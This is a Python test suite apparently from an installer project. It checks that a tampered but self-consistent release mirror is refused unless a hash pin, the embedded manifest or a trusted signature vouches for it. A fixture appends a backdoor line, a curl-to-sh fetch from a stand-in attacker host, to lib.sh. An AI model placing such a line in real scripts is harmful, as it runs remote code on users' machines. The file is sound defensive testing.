"""A release from a URL or a directory is installed only when something already trusted vouches
for it: an embedded manifest, the user's --sha256, or the release key's signature on SHA256SUMS.

The attack: a mirror serving a consistent, tampered release (a backdoored lib.sh, with the
manifest and SHA256SUMS regenerated around it), over plain HTTP on loopback and over HTTPS with a
CA made here.
"""

from __future__ import annotations

import hashlib
import json
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from clirun import cli
from mam_install._errors import IntegrityError
from mam_install.release._signature import encode_signature, verify_sums_signature
from mam_install.release._sums import format_sums
from workspaces import ROOT, sha, tree

from scripts.payload_archive import build_payload
from tests.release_server import ReleaseServer, make_self_signed_cert, running_server

BACKDOOR = b"\ncurl -fsS https://attacker.invalid/x | sh  # backdoor\n"
DATA = ROOT / "installer" / "mam_install" / "_data"


@pytest.fixture(autouse=True)
def _no_proxy(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy"):
        monkeypatch.delenv(name, raising=False)


def with_sums(release: Path) -> Path:
    """Write SHA256SUMS over every file in ``release``, as scripts/build.py does."""
    entries = {p.name: sha(p.read_bytes()) for p in sorted(release.iterdir()) if p.is_file()}
    (release / "SHA256SUMS").write_bytes(format_sums(entries))
    return release


def tampered_mirror(base: Path) -> Path:
    """The real payload of the embedded version with a backdoored lib.sh, manifest and
    SHA256SUMS regenerated: consistent with itself in every check but the trust one."""
    payload = base / "payload"
    shutil.copytree(ROOT / "payload", payload, symlinks=True)
    lib = payload / "workspace/.agents/skills/lib.sh"
    lib.write_bytes(lib.read_bytes() + BACKDOOR)
    release = base / "mirror"
    build_payload(payload, release, mtime=1_700_000_000)
    return with_sums(release)


def embedded_release(base: Path) -> Path:
    """Exactly the release this installer embeds: its manifest and archive, and SHA256SUMS."""
    release = base / "official"
    release.mkdir()
    manifest = json.loads((DATA / "manifest.json").read_bytes())
    shutil.copyfile(DATA / "manifest.json", release / f"manifest-{manifest['version']}.json")
    shutil.copyfile(DATA / manifest["archive"]["name"], release / manifest["archive"]["name"])
    return with_sums(release)


@pytest.fixture
def serve() -> Iterator[object]:
    with running_server() as server:

        def publish(release: Path, prefix: str = "/r/") -> str:
            for path in sorted(release.iterdir()):
                server.routes[prefix + path.name] = ReleaseServer.ok(path.read_bytes())
            return server.url(prefix)

        publish.server = server  # type: ignore[attr-defined]
        yield publish


def install(ws: Path, source: Path | str, *extra: str):  # type: ignore[no-untyped-def]
    return cli("install", "-y", "--no-host", "--workspace", ws, "--from", source, *extra)


def receipt_source(ws: Path) -> dict[str, str]:
    return json.loads((ws / ".mam" / "install-receipt.json").read_text())["source"]


def assert_refused_naming_the_three_ways(run, ws: Path) -> None:  # type: ignore[no-untyped-def]
    assert run.exit_code == 5, run.stderr
    message = run.stderr
    assert "nothing vouches for this release" in message
    assert "--sha256" in message  # 1. pin it
    assert "mam-install.pyz of that release" in message  # 2. an installer that embeds it
    assert "SHA256SUMS.ed25519" in message  # 3. a signed release
    assert tree(ws) == {"AGENT.md": b"mine\n"}, "nothing may leave staging"


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    path = tmp_path / "ws"
    path.mkdir()
    (path / "AGENT.md").write_bytes(b"mine\n")
    return path


def test_a_tampered_consistent_mirror_is_refused_with_no_pin(serve, tmp_path, ws):
    mirror = tampered_mirror(tmp_path)
    url = serve(mirror)
    run = install(ws, url)
    assert_refused_naming_the_three_ways(run, ws)
    archive = next(p.name for p in mirror.glob("*.tar.gz"))
    assert serve.server.hits(f"/r/{archive}") == 0, "refused before the archive was fetched"


@pytest.mark.parametrize("pinned", ["SHA256SUMS", "manifest", "archive"])
def test_the_same_mirror_is_installed_when_the_user_pins_it(serve, tmp_path, ws, pinned):
    mirror = tampered_mirror(tmp_path)
    target = {
        "SHA256SUMS": mirror / "SHA256SUMS",
        "manifest": next(mirror.glob("manifest-*.json")),
        "archive": next(mirror.glob("*.tar.gz")),
    }[pinned]
    run = install(ws, serve(mirror), "--sha256", sha(target.read_bytes()))
    assert run.exit_code == 0, run.stderr
    assert (ws / ".agents/skills/lib.sh").read_bytes().endswith(BACKDOOR)  # the user's choice
    assert receipt_source(ws)["trust"] == "pinned"
    assert receipt_source(ws)["pin"] == pinned


def test_a_pin_of_something_else_is_refused(serve, tmp_path, ws):
    url = serve(tampered_mirror(tmp_path))
    run = install(ws, url, "--sha256", "0" * 64)
    assert run.exit_code == 5
    assert "not the release you pinned" in run.stderr
    assert tree(ws) == {"AGENT.md": b"mine\n"}


def test_a_tampered_mirror_over_https_is_refused_and_installed_once_pinned(
    tmp_path, ws, monkeypatch
):
    tls = make_self_signed_cert(tmp_path)  # the CA made here, trusted through SSL_CERT_FILE
    assert tls is not None, "openssl is one of the tools scripts/test.py installs"
    monkeypatch.setenv("SSL_CERT_FILE", str(tls[0]))
    mirror = tampered_mirror(tmp_path)
    with running_server(tls=tls) as server:
        for path in mirror.iterdir():
            server.routes[f"/r/{path.name}"] = ReleaseServer.ok(path.read_bytes())
        assert server.base_url.startswith("https://")
        assert_refused_naming_the_three_ways(install(ws, server.url("/r/")), ws)
        pin = sha((mirror / "SHA256SUMS").read_bytes())
        run = install(ws, server.url("/r/"), "--sha256", pin)
        assert run.exit_code == 0, run.stderr


def test_a_tampered_release_directory_is_refused_with_no_pin(tmp_path, ws):
    assert_refused_naming_the_three_ways(install(ws, tampered_mirror(tmp_path)), ws)


def test_a_release_of_the_embedded_version_installs_with_no_pin(serve, tmp_path, ws):
    run = install(ws, serve(embedded_release(tmp_path)))
    assert run.exit_code == 0, run.stderr
    assert (ws / ".agents/skills/lib.sh").is_file()
    assert receipt_source(ws)["trust"] == "embedded"
    assert receipt_source(ws)["embedded"] == "release manifest"


def test_a_rebuild_of_released_content_installs_with_no_pin(tmp_path, ws):
    """Another archive (another mtime) of exactly the files of manifests/<version>.json: every
    byte installed is one the project released, so the committed manifest vouches for it."""
    release = tmp_path / "rebuilt"
    build_payload(ROOT / "payload", release, mtime=1_234_567_890)
    run = install(ws, with_sums(release))
    assert run.exit_code == 0, run.stderr
    version = (ROOT / "payload" / "VERSION").read_text().strip()
    assert receipt_source(ws)["embedded"] == f"manifests/{version}.json"


def test_a_mirror_signed_by_another_key_is_refused(serve, tmp_path, ws):
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    mirror = tampered_mirror(tmp_path)
    signature = Ed25519PrivateKey.generate().sign((mirror / "SHA256SUMS").read_bytes())
    (mirror / "SHA256SUMS.ed25519").write_bytes(encode_signature(signature))
    run = install(ws, serve(mirror))
    assert run.exit_code == 5
    assert "SHA256SUMS.ed25519" in run.stderr
    assert tree(ws) == {"AGENT.md": b"mine\n"}


def test_a_signature_verifies_only_against_its_key_and_its_exact_sums():
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
    from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

    key = Ed25519PrivateKey.generate()
    public = key.public_key().public_bytes(Encoding.Raw, PublicFormat.Raw)
    other = Ed25519PrivateKey.generate().public_key().public_bytes(Encoding.Raw, PublicFormat.Raw)
    sums = format_sums({"manifest-1.0.0.json": "a" * 64})
    signed = encode_signature(key.sign(sums))
    assert (
        verify_sums_signature(sums, signed, [other, public], "t")
        == (hashlib.sha256(public).hexdigest()[:16])
    )
    for bad_sums, keys in ((sums + b"x", [public]), (sums, [other]), (sums, [])):
        with pytest.raises(IntegrityError):
            verify_sums_signature(bad_sums, signed, keys, "t")
    for malformed in (signed[:-1], b" " + signed, signed + b"\n", b"\xff" * 89 + b"\n"):
        with pytest.raises(IntegrityError):
            verify_sums_signature(sums, malformed, [public], "t")
